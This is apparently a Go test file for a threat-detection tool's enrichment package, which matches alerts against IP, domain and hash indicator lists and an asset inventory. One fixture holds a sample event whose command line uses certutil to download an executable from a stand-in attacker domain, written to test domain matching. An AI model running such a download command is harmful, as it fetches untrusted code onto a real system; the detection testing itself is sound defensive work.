package enrich

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/vigil-detect/vigil/alert"
)

func write(t *testing.T, dir, name, text string) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestClassify(t *testing.T) {
	for _, tc := range []struct{ in, want, kind, norm string }{
		{"203.0.113.50", TypeAuto, TypeIP, "203.0.113.50"},
		{"::ffff:203.0.113.50", TypeAuto, TypeIP, "203.0.113.50"},
		{"2001:db8::1", TypeAuto, TypeIP, "2001:db8::1"},
		{"198.51.100.77/24", TypeAuto, TypeCIDR, "198.51.100.0/24"},
		{"192.0.2.1", TypeCIDR, TypeCIDR, "192.0.2.1/32"},
		{"Evil.Example.", TypeAuto, TypeDomain, "evil.example"},
		{"44D88612FEA8A8F36DE82E1278ABB02F", TypeAuto, TypeHash, "44d88612fea8a8f36de82e1278abb02f"},
		{"1.2.3", TypeAuto, "", ""},           // numeric last label: not a domain
		{"not a thing", TypeAuto, "", ""},     // no dot
		{"evil.example", TypeIP, "", ""},      // typed list refuses other kinds
		{"-bad-.example", TypeDomain, "", ""}, // label edges
	} {
		kind, norm, err := Classify(tc.in, tc.want)
		if tc.kind == "" {
			if err == nil {
				t.Errorf("%q as %s: accepted as %s %s", tc.in, tc.want, kind, norm)
			}
			continue
		}
		if err != nil || kind != tc.kind || norm != tc.norm {
			t.Errorf("%q as %s: %s %s %v", tc.in, tc.want, kind, norm, err)
		}
	}
}

func TestLoadErrorsNameFileAndLine(t *testing.T) {
	dir := t.TempDir()
	bad := write(t, dir, "bad.txt", "# feed\n203.0.113.50\n\nnot-an-indicator\n")
	assets := write(t, dir, "assets.csv", "kind,value,criticality,owner\nhost,DC01,extreme,it\nprinter,P1,low\n")
	_, err := Load(Sources{Lists: []List{{File: bad}}, Assets: []string{assets}})
	if err == nil {
		t.Fatal("no error")
	}
	for _, want := range []string{bad + ":4: \"not-an-indicator\"", assets + ":2: criticality \"extreme\"", assets + ":3: kind \"printer\""} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error lacks %q:\n%v", want, err)
		}
	}
	if _, err := Load(Sources{Lists: []List{{File: filepath.Join(dir, "missing.txt")}}}); err == nil {
		t.Error("missing file accepted")
	}
}

func TestMatchIndicatorsAndAssets(t *testing.T) {
	dir := t.TempDir()
	ips := write(t, dir, "c2.txt", "203.0.113.50  # brute forcer\n192.0.2.0/24\n2001:db8:bad::/48\n")
	doms := write(t, dir, "domains.txt", "evil.example\n")
	hashes := write(t, dir, "hashes.txt", "44d88612fea8a8f36de82e1278abb02f  eicar\n")
	assets := write(t, dir, "assets.csv", "host,NW-DC01.northwind.local,critical,identity\nuser,Administrator,high\nip,10.0.0.0/8,low,net\nip,10.1.2.3,medium\n")
	d, err := Load(Sources{Lists: []List{{File: ips}, {Name: "bad-domains", File: doms, Type: "domain"}, {File: hashes}}, Assets: []string{assets}})
	if err != nil {
		t.Fatal(err)
	}
	if d.Indicators != 5 || d.Assets != 4 {
		t.Fatalf("loaded %d indicators, %d assets", d.Indicators, d.Assets)
	}
	ev := map[string]any{
		"CommandLine": "certutil -urlcache -f https://cdn.evil.example/a.exe C:\\Users\\Public\\a.exe",
		"Hashes":      "MD5=44D88612FEA8A8F36DE82E1278ABB02F,SHA256=0000",
		"Nested":      map[string]any{"DestinationIp": "192.0.2.99:443"},
		"List":        []any{"x", "2001:db8:bad::7"},
		"Port":        443,
	}
	raw, _ := json.Marshal(ev)
	a := &alert.Alert{
		Entities: alert.Entities{IP: []string{"203.0.113.50", "10.1.2.3"}, User: []string{"NORTHWIND\\administrator"}, Host: []string{"nw-dc01"}},
		Event:    raw,
	}
	inds, as := d.Match(a)
	got := map[string]string{}
	for _, h := range inds {
		got[h.Type+" "+h.Value] = h.List + "@" + h.Source
	}
	want := map[string]string{
		"ip 203.0.113.50":                       "c2@entities.ip",
		"domain evil.example":                   "bad-domains@CommandLine",
		"hash 44d88612fea8a8f36de82e1278abb02f": "hashes@Hashes",
		"ip 192.0.2.99":                         "c2@DestinationIp",
		"ip 2001:db8:bad::7":                    "c2@List",
	}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("hit %s: got %q want %q (all: %v)", k, got[k], v, got)
		}
	}
	if len(got) != len(want) {
		t.Errorf("hits %v", got)
	}
	crit := map[string]string{}
	for _, h := range as {
		crit[h.Kind+" "+h.Value] = h.Criticality + "/" + h.Owner
	}
	for k, v := range map[string]string{"host nw-dc01": "critical/identity", "user NORTHWIND\\administrator": "high/", "ip 10.1.2.3": "medium/"} {
		if crit[k] != v {
			t.Errorf("asset %s: %q (all %v)", k, crit[k], crit)
		}
	}
	if a := d.Asset("ip", "10.9.9.9"); a == nil || a.Owner != "net" {
		t.Errorf("CIDR asset: %+v", a)
	}
}

func TestReloadKeepsOldDataOnError(t *testing.T) {
	dir := t.TempDir()
	f := write(t, dir, "feed.txt", "203.0.113.1\n")
	e, err := New(Sources{Lists: []List{{File: f}}})
	if err != nil {
		t.Fatal(err)
	}
	has := func(ip string) bool {
		a := &alert.Alert{Entities: alert.Entities{IP: []string{ip}}}
		inds, _ := e.Data().Match(a)
		return len(inds) > 0
	}
	if changed, err := e.ReloadIfChanged(); changed || err != nil {
		t.Fatalf("unchanged files reloaded: %v %v", changed, err)
	}
	write(t, dir, "feed.txt", "203.0.113.2\n")
	os.Chtimes(f, time.Now().Add(time.Minute), time.Now().Add(time.Minute))
	if changed, err := e.ReloadIfChanged(); !changed || err != nil {
		t.Fatalf("reload: %v %v", changed, err)
	}
	if has("203.0.113.1") || !has("203.0.113.2") {
		t.Error("reload did not replace the list")
	}
	write(t, dir, "feed.txt", "203.0.113.3\ngarbage\n")
	os.Chtimes(f, time.Now().Add(2*time.Minute), time.Now().Add(2*time.Minute))
	if changed, err := e.ReloadIfChanged(); !changed || err == nil || !strings.Contains(err.Error(), f+":2:") {
		t.Fatalf("bad reload: %v %v", changed, err)
	}
	if !has("203.0.113.2") || has("203.0.113.3") {
		t.Error("a failed reload changed the data")
	}
}

func BenchmarkMatch(b *testing.B) {
	dir := b.TempDir()
	var feed strings.Builder
	for i := 0; i < 10000; i++ {
		feed.WriteString("198.18." + strconv.Itoa(i/256) + "." + strconv.Itoa(i%256) + "\n")
	}
	feed.WriteString("evil.example\n44d88612fea8a8f36de82e1278abb02f\n10.0.0.0/8\n")
	p := filepath.Join(dir, "feed.txt")
	os.WriteFile(p, []byte(feed.String()), 0o644)
	d, err := Load(Sources{Lists: []List{{File: p}}})
	if err != nil {
		b.Fatal(err)
	}
	raw, _ := os.ReadFile(filepath.Join("..", "..", "examples", "events.ndjson"))
	line := raw[:strings.IndexByte(string(raw), '\n')]
	a := &alert.Alert{Entities: alert.Entities{IP: []string{"203.0.113.50"}}, Event: line}
	b.SetBytes(int64(len(line)))
	b.ReportAllocs()
	for b.Loop() {
		d.Match(a)
	}
}

func TestAssetHostNames(t *testing.T) {
	dir := t.TempDir()
	f := write(t, dir, "a.csv", "host,nw-dc01.corp.example,critical\nhost,WS7,low\n")
	d, err := Load(Sources{Assets: []string{f}})
	if err != nil {
		t.Fatal(err)
	}
	for host, want := range map[string]string{
		"NW-DC01.corp.example.": "critical", // full name, case and trailing dot folded
		"nw-dc01":               "critical", // no domain: first label
		"nw-dc01.other.example": "",         // another domain is another host
		"ws7.corp.example":      "low",      // the entry has no domain
		"ws8":                   "",
	} {
		got := ""
		if a := d.Asset("host", host); a != nil {
			got = a.Criticality
		}
		if got != want {
			t.Errorf("%s: %q, want %q", host, got, want)
		}
	}
}
